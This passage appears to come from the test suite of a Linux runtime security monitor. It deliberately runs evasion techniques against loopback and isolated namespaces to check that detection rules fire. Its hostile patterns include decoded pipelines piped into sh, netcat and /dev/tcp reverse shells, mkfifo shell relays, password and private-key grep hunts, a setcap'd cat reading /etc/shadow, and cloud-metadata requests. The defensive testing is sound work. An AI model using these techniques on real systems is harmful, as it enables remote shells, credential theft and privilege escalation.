        LIBC + f"fd = libc.syscall(428, -100, b'{ev}/cfg', 1 | 0o2000000)\n"
        "assert fd >= 0, ctypes.get_errno()\nos.close(fd)"),
        fields={"evt.type": "open_tree", "vigil.mount.source": "/etc"})
    c.expect("VG-039", "mount of a device through a symlink (fails)", c.py(
        private + f"libc.mount(b'{ev}/disk', b'{mnt}', b'ext4', 0, None)"),
        fields={"evt.type": "mount", "vigil.mount.source": "/dev/null"})
    # VG-038: root from a setuid-root copy with no setuid call; group 0 by setgroups
    suid = f"{ev}/suid-py-{c.MARK}"
    shutil.copy(os.path.realpath(c.PY), suid)
    os.chmod(suid, 0o4755)
    c.expect("VG-038", "setuid-root python copy run by nobody, no setuid call",
             c.run(c.NOBODY + [suid, "-c", "pass"]),
             fields={"vigil.ruid": 65534, "evt.arg.uid": 0, "proc.exepath": suid})
    c.expect("VG-038", "setgroups([0]) from a setuid-root copy run by nobody",
             c.run(c.NOBODY + [suid, "-c", "import os; os.setgroups([0])"]),
             fields={"evt.type": "setgroups", "proc.exepath": suid})
    # VG-037: one file, a writable and an executable mapping
    c.expect("VG-037", "memfd mapped writable and executable", c.py(
        "import mmap, os\nfd = os.memfd_create('jit', 0)\nos.ftruncate(fd, 4096)\n"
        "w = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)\n"
        "x = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_EXEC)"),
        fields={"evt.arg.path": "/memfd:jit", "evt.arg.file_writable": 1})
    # VG-037: never W+X at once: written while RW, then flipped to RX by
    # mprotect (anonymous memory, and a private file mapping written copy-on-write)
    flip = ("import ctypes, mmap\nlibc = ctypes.CDLL(None)\n{m}\nm.write(b'\\xc3')\n"
            "a = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
            "assert libc.mprotect(ctypes.c_void_p(a), 4096, mmap.PROT_READ | mmap.PROT_EXEC) == 0")
    c.expect("VG-037", "anonymous RW written, then mprotect RX", c.py(flip.format(
        m="m = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)")),
        fields={"evt.type": "mprotect", "evt.arg.was_written": 1})
    with open(f"{ev}/blob-{c.MARK}", "wb") as f:
        f.write(b"\0" * 4096)
    c.expect("VG-037", "private file mapping written, then mprotect RX", c.py(flip.format(
        m=f"f = open('{ev}/blob-{c.MARK}', 'rb')\n"
          "m = mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)")),
        fields={"evt.type": "mprotect", "evt.arg.was_written": 1})
    c._ordinary.append(("mprotect RX of anonymous memory never written", c.py(
        "import ctypes, mmap\nlibc = ctypes.CDLL(None)\n"
        "m = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)\n"
        "a = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
        "libc.mprotect(ctypes.c_void_p(a), 4096, mmap.PROT_READ | mmap.PROT_EXEC)"), None))
    shm = f"/dev/shm/vigil-{c.MARK}-wx"
    c.expect("VG-037", "/dev/shm file: writable mapping, executable mapping by a read-only fd", c.py(
        f"import mmap, os\nfd = os.open('{shm}', os.O_RDWR | os.O_CREAT, 0o600)\nos.ftruncate(fd, 4096)\n"
        "w = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)\nos.close(fd)\n"
        f"r = os.open('{shm}', os.O_RDONLY)\nos.unlink('{shm}')\n"
        "x = mmap.mmap(r, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_EXEC)"),
        fields={"evt.arg.file_writable": 1})


def arguments(c, t):
    """Class "arguments by meaning", second part: decoders' and grep's
    options read the way those tools read them."""
    ev = os.path.join(t, "evade-args")
    os.makedirs(ev)
    os.chmod(ev, 0o755)
    payload = "ZWNobyB2aWdpbAo="  # "echo vigil"
    # VG-043: bundled and abbreviated options (base64 -id = -i -d; --dec is
    # --decode to getopt; xxd takes --revert; openssl takes --d)
    c.expect("VG-043", "sh -c '... | base64 -id | sh'",
             c.run(["sh", "-c", f"echo {payload} | base64 -id | sh # {c.MARK}"]))
    for name, line in [
            ("base64 --dec", f"echo {payload} | base64 --dec | sh"),
            ("xxd --revert -p", "printf 'echo vigil\\n' | xxd -p | xxd --revert -p | sh"),
            ("openssl base64 --d", f"echo {payload} | openssl base64 --d | sh"),
    ]:
        script = f"{ev}/pipeline-{name.split()[0]}-{len(name)}-{c.MARK}.sh"
        with open(script, "w") as f:
            f.write(line + "\n")
        c.run(["bash", script])
        c.expect("VG-043", f"{name} | sh built by a running bash", marker=script)
    # VG-020: the needle spelled as a regular expression, grep under another name
    os.makedirs(f"{ev}/src")
    c.expect("VG-020", "grep -r 'pa[s]sword'", c.run(["grep", "-r", "pa[s]sword", f"{ev}/src"]),
             proc__name="grep")
    c.expect("VG-020", "grep -rE 'p(a|4)ssw(or)?d'",
             c.run(["grep", "-rE", "p(a|4)ssw(or)?d", f"{ev}/src"]), proc__name="grep")
    finder = f"{ev}/finder"
    os.symlink("/usr/bin/grep", finder)
    c.expect("VG-020", "grep named finder, -ri -e 'PA.SWORD'",
             c.run([finder, "-ri", "-e", "PA.SWORD", f"{ev}/src"]), proc__name="finder")
    c.expect("VG-020", "grep -l 'BEGIN.*PRIVATE KEY' (not recursive)",
             c.run(["grep", "-l", "BEGIN.*PRIVATE KEY", f"{ev}/src/none"]))
    c._ordinary.append(("grep -r for a piece of a word", c.run(["grep", "-r", "ss", f"{ev}/src"]), None))
    c._ordinary.append(("grep -r . (everything)", c.run(["grep", "-r", ".", f"{ev}/src"]), None))


def socket_shells(c):
    """VG-064 without listen(): the shell itself starts on a network socket.
    Loopback only; the shells run `true` (or read nothing) and exit."""
    udp = ("import os, socket\ns = socket.socket(socket.{fam}, socket.SOCK_DGRAM)\n"
           "s.bind(('{addr}', 0))\nos.dup2(s.fileno(), 0)\n"
           "os.execv('/bin/sh', ['sh', '-c', 'true'])")
    c.expect("VG-064", "UDP bind shell (IPv4)", c.py(udp.format(fam="AF_INET", addr="127.0.0.1")),
             fields={"proc.stdin.type": "ipv4"})
    c.expect("VG-064", "UDP bind shell (IPv6)", c.py(udp.format(fam="AF_INET6", addr="::1")),
             fields={"proc.stdin.type": "ipv6"})
    # a connection accepted by one process and handed to a shell it starts
    # (inetd, a socket unit with Accept=yes)
    c.py("import socket, subprocess\nl = socket.socket()\nl.bind(('127.0.0.1', 0))\nl.listen(1)\n"
         "cl = socket.create_connection(l.getsockname())\nconn, _ = l.accept()\ncl.close()\n"
         f"subprocess.run(['bash', '-c', 'true # {c.MARK}-sockact'], stdin=conn)")
    c.expect("VG-064", "accepted connection handed to a shell", marker=f"{c.MARK}-sockact",
             fields={"proc.stdin.type": "ipv4"})


def fastopen_sendmsg(c):
    """VG-063: TCP Fast Open through sendmsg (the address in the msghdr),
    and through sendmmsg (the address in the first of its vector's msghdrs,
    tests/bin/vigil-connect-race.c), from an empty network namespace
    (nothing leaves the host)."""
    c.expect("VG-063", "sendmsg(MSG_FASTOPEN)", c.run(["unshare", "-n", c.PY, "-c",
             "import socket\ntry: socket.socket().sendmsg([b'x'], [], socket.MSG_FASTOPEN, "
             "('169.254.169.254', 80))\nexcept OSError: pass"]), fd__rip="169.254.169.254")
    race = os.path.join(c.BUILD, "tests", "bin", "vigil-connect-race")
    c.expect("VG-063", "sendmmsg(MSG_FASTOPEN)",
             c.run(["unshare", "-n", race, "169.254.169.254", "80", "1", "0", "sendmmsg"]),
             fd__rip="169.254.169.254")
    # and through io_uring: IORING_OP_SENDMSG and IORING_OP_SEND (tests/bin/vigil-uring.c)
    uring = os.path.join(c.BUILD, "tests", "bin", "vigil-uring")
    c.expect("VG-063", "io_uring SENDMSG and SEND with MSG_FASTOPEN",
             c.run(["unshare", "-n", uring, "fastopen", "80", "169.254.169.254"]),
             fd__rip="169.254.169.254")


def copies(c, t, home, nob, port):
    """Class "identity", by content: a tool copied under another name is a
    new file with a new name and inode, but it keeps the build-id its
    linker wrote (proc.exe_tool). Decoders, grep, shells, shred and ssh
    copied into a private directory and run under innocent names."""
    ev = os.path.join(t, "evade-copies")
    os.makedirs(ev)
    os.chmod(ev, 0o755)

    def copy(src, name):
        dst = os.path.join(ev, name)
        shutil.copy(src, dst)
        os.chmod(dst, 0o755)
        return dst

    payload = "ZWNobyB2aWdpbAo="  # "echo vigil"
    # VG-043: a copy of base64 in a pipeline a running bash builds, and a
    # copy of xxd; each stage execs on its own with innocent words
    dec = copy("/usr/bin/base64", "fmt-conv")
    rev = copy("/usr/bin/xxd", "hexview")
    runner = copy("/bin/dash", "runner")
    for name, line in [("base64 copy", f"echo {payload} | {dec} -d | sh"),
                       ("xxd copy", f"printf 'echo vigil\\n' | xxd -p | {rev} -r -p | sh"),
                       ("shell copy", f"echo {payload} | base64 -d | {runner}")]:
        script = f"{ev}/pipeline-{name.split()[0]}-{c.MARK}.sh"
        with open(script, "w") as f:
            f.write(line + "\n")
        c.run(["bash", script])
        c.expect("VG-043", f"{name} | sh built by a running bash", marker=script)
    # VG-020: a copy of grep (not a link: its own inode) searching for passwords
    os.makedirs(f"{ev}/src")
    finder = copy("/usr/bin/grep", "lookup")
    c.expect("VG-020", "grep copied as lookup, -ri passw.rd",
             c.run([finder, "-ri", "passw.rd", f"{ev}/src"]),
             fields={"proc.name": "lookup", "proc.exe_tool": "grep"})
    # VG-020: the needle in a pattern file (-f), absolute and relative to the cwd
    with open(f"{ev}/pats-{c.MARK}", "w") as f:
        f.write("nothing\npa[s]sw.rd\n")
    c.expect("VG-020", "grep -r -f FILE", c.run(["grep", "-r", "-f", f"{ev}/pats-{c.MARK}", f"{ev}/src"]),
             fields={"proc.name": "grep"})
    c.expect("VG-020", "grep -rf FILE relative to the cwd",
             c.run(["grep", "-rf", f"pats-{c.MARK}", "src"], cwd=ev), fields={"proc.name": "grep"})
    # VG-020: ripgrep read with its own options (recursive by default, smart
    # case), and a copy of it under another name
    c.expect("VG-020", "rg -S pass.ord (smart case, recursive by default)",
             c.run(["rg", "-S", "pass.ord", f"{ev}/src"]), fields={"proc.name": "rg", "proc.exe_tool": "rg"})
    c.expect("VG-020", "rg copied as scan, -i PASS.ORD",
             c.run([copy(shutil.which("rg") or "/usr/bin/rg", "scan"), "-i", "PASS.ORD", f"{ev}/src"]),
             fields={"proc.name": "scan", "proc.exe_tool": "rg"})
    # VG-041: OpenBSD netcat copied under another name, asked to run a shell
    # (this netcat has no -e: it refuses and exits)
    nc = os.path.realpath(shutil.which("nc") or "/bin/nc")
    c.expect("VG-041", "nc copied as relay, -e /bin/sh",
             c.run([copy(nc, "relay"), "-e", "/bin/sh", "127.0.0.1", "9"]),
             fields={"proc.name": "relay", "proc.exe_tool": "nc"})
    # VG-045: a copy of bash as a service account's interactive shell
    sh = copy("/bin/bash", "cronjob")
    c.expect("VG-045", "bash copied as cronjob, as daemon",
             c.run(c.DAEMON + [sh, "--norc", "-i", "-c", f"echo {c.MARK}-copy"]),
             fields={"user.uid": 1, "proc.name": "cronjob"})
    # VG-006: a copy of shred
    with open(f"{ev}/secret-{c.MARK}", "w") as f:
        f.write("secret\n" * 10)
    c.expect("VG-006", "shred copied as tidy",
             c.run([copy("/usr/bin/shred", "tidy"), "-u", f"{ev}/secret-{c.MARK}"]),
             fields={"proc.name": "tidy"})
    # VG-065: a copy of bash connecting through /dev/tcp
    upd = copy("/bin/bash", "updater")
    c.run([upd, "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo {c.MARK}-copynet >&3"], timeout=30)
    c.expect("VG-065", "bash copied as updater to /dev/tcp", marker=f"{c.MARK}-copynet", fd__rport=port)
    # VG-062: a copy of ssh to a non-standard port
    c.expect("VG-062", "ssh copied as sync-agent",
             c.run([copy("/usr/bin/ssh", "sync-agent"), "-o", "BatchMode=yes", "-o", "ConnectTimeout=3",
                    "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o",
                    "UserKnownHostsFile=/dev/null", "-p", "4434", "127.0.0.1", "true"]),
             fd__rport=4434)
    # ordinary: a tool under its own name is its own tool; a build's own
    # program is no tool
    c._ordinary.append(("a copy of base64 encoding", c.run([dec, "/etc/hostname"]), None))


def capabilities(c, t):
    """VG-038 without uid 0: a copy of cat given cap_dac_read_search with
    setcap, run by nobody, reads /etc/shadow. No setuid bit, no set*id call;
    the exec raised the task's permitted capabilities (vigil.caps_raised)."""
    ev = os.path.join(t, "evade-caps")
    os.makedirs(ev)
    os.chmod(ev, 0o755)
    cat = os.path.join(ev, f"reader-{c.MARK}")
    shutil.copy("/usr/bin/cat", cat)
    os.chmod(cat, 0o755)
    c.run(["setcap", "cap_dac_read_search+ep", cat], check=True)
    c.expect("VG-038", "setcap'd copy of cat run by nobody reads /etc/shadow",
             c.run(c.NOBODY + [cat, "/etc/shadow"]),
             fields={"proc.exepath": cat, "user.uid": 65534, "thread.cap_effective": "CAP_DAC_READ_SEARCH"})
    c.expect("VG-038", "setcap'd copy with +p only (no effective bit) run by nobody",
             c.run(["sh", "-c", f"cp {cat} {cat}-p && setcap cap_dac_read_search+p {cat}-p && "
                                f"setpriv --reuid=65534 --regid=65534 --clear-groups {cat}-p /etc/hostname"]),
             marker=f"{cat}-p")
    # ordinary: capabilities kept, not gained (a service's ambient set)
    c._ordinary.append(("nobody with an ambient capability runs true", c.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=+net_bind_service",
         "--ambient-caps=+net_bind_service", "/bin/true"]), None))


def relays(c, t, port):
    """VG-064 one process away: the shell reads its commands from a pipe or a
    unix socket and a relay holds the network socket (`port`: the
    catalogue's loopback listener, which answers "exit", so every shell
    ends at once). A relay lives as long as its session; these stay a
    second, as the monitor reads the relay's descriptors from /proc."""
    ev = os.path.join(t, "evade-relay")
    os.makedirs(ev)
    conn = f"import socket, subprocess\ns = socket.create_connection(('127.0.0.1', {port}))\n"
    # a python relay: the shell's stdin and stdout are pipes to it
    c.py(conn + "data = s.recv(64)\n"
         f"p = subprocess.Popen(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # {c.MARK}-pyrelay\n"
         "import time; time.sleep(1)\np.communicate(data)")
    c.expect("VG-064", "python relay: sh on pipes", marker=f"{c.MARK}-pyrelay",
             fields={"proc.name": "sh", "proc.cmdline": "sh"})
    # socat EXEC: style: a unix socketpair between the relay and the shell
    c.py(conn + "a, b = socket.socketpair()\na.sendall(s.recv(64))\n"
         f"p = subprocess.Popen(['sh', '-i'], stdin=b, stdout=b, stderr=b)  # {c.MARK}-sprelay\n"
         "import time; time.sleep(1)\np.wait()")
    c.expect("VG-064", "socketpair relay: sh -i on a unix socket", marker=f"{c.MARK}-sprelay",
             fields={"proc.name": "sh", "proc.cmdline": "sh -i"})
    # a named pipe and a network tool: cat f | sh -i | <relay> > f
    fifo = f"{ev}/f-{c.MARK}"
    relay = (f"import socket, sys\ns = socket.create_connection(('127.0.0.1', {port}))  # {c.MARK}-fifo\n"
             "sys.stdout.buffer.write(s.recv(64)); sys.stdout.flush()\n"
             "s.sendall(sys.stdin.buffer.read())")
    script = f"{ev}/fifo-{c.MARK}.sh"
    with open(script, "w") as f:
        f.write(f"mkfifo {fifo}\ncat {fifo} | sh -i 2>&1 | {c.PY} -c \"{relay}\" > {fifo}\n")
    c.run(["bash", script], timeout=30)
    c.expect("VG-064", "mkfifo: cat f | sh -i | relay > f", marker=f"{c.MARK}-fifo",
             fields={"evt.type": "connect"})
    # ordinary: a shell reading a script from a pipe, its output to the terminal side
    c._ordinary.append(("echo true | sh", c.run(["sh", "-c", "echo true | sh"]), None))


def compat32(c, t, port):
    """Class "system calls not watched": calls through the i386 ABI ("int
    $0x80" from a 64-bit program, tests/bin/vigil-int80.c) whose arguments
    sit in user memory: the socketcall() multiplexer, the old mmap().
    `port`: the catalogue's loopback listener; the metadata address is tried
    from an empty network namespace (nothing leaves the host)."""
    int80 = os.path.join(c.BUILD, "tests", "bin", "vigil-int80")
    c.expect("VG-060", "i386 socketcall connect-back, i386 dup2",
             c.run([int80, "revshell", port]), fd__type="ipv4", evt__arg__newfd=2)
    c.expect("VG-063", "i386 socketcall(CONNECT)",
             c.run(["unshare", "-n", int80, "connect", "169.254.169.254", 80]),
             fd__rip="169.254.169.254")
    c.expect("VG-063", "i386 socketcall(SENDTO|SENDMSG, MSG_FASTOPEN)",
             c.run(["unshare", "-n", int80, "fastopen", "169.254.169.254", 80]),
             fd__rip="169.254.169.254")
    c.expect("VG-063", "i386 socketcall(SENDMMSG) and sendmmsg, MSG_FASTOPEN",
             c.run(["unshare", "-n", int80, "sendmmsg", "169.254.169.254", 80]),
             fd__rip="169.254.169.254")
    os.makedirs(os.path.join(t, "evade-32"))
    cat = os.path.join(t, "evade-32", "cat")
    os.symlink(int80, cat)
    c.expect("VG-065", "i386 socketcall connect by 'cat'", c.run([cat, "connect", "127.0.0.1", port]),
             fd__rport=port, proc__name="cat")
    # sendmmsg(MSG_FASTOPEN) by a program named cat (64-bit, then i386)
    cat64 = os.path.join(t, "evade-32", "cat64")
    os.makedirs(cat64)
    os.symlink(os.path.join(c.BUILD, "tests", "bin", "vigil-connect-race"), os.path.join(cat64, "cat"))
    c.expect("VG-065", "sendmmsg(MSG_FASTOPEN) by 'cat'",
             c.run([os.path.join(cat64, "cat"), "127.0.0.1", str(port), "1", "0", "sendmmsg"]),
             fd__rport=port, proc__name="cat")
    c.expect("VG-065", "i386 sendmmsg(MSG_FASTOPEN) by 'cat'",
             c.run([cat, "sendmmsg", "127.0.0.1", port]), fd__rport=port, proc__name="cat")
    os.symlink(os.path.join(c.BUILD, "tests", "bin", "vigil-uring"), os.path.join(cat64, "tee"))
    c.expect("VG-065", "io_uring SENDMSG(MSG_FASTOPEN) by 'tee'",
             c.run([os.path.join(cat64, "tee"), "fastopen", port]), fd__rport=port, proc__name="tee")
    c.expect("VG-037", "i386 old mmap (arguments in memory)", c.run([int80, "oldmmap"]),
             evt__arg__prot="PROT_READ|PROT_WRITE|PROT_EXEC")
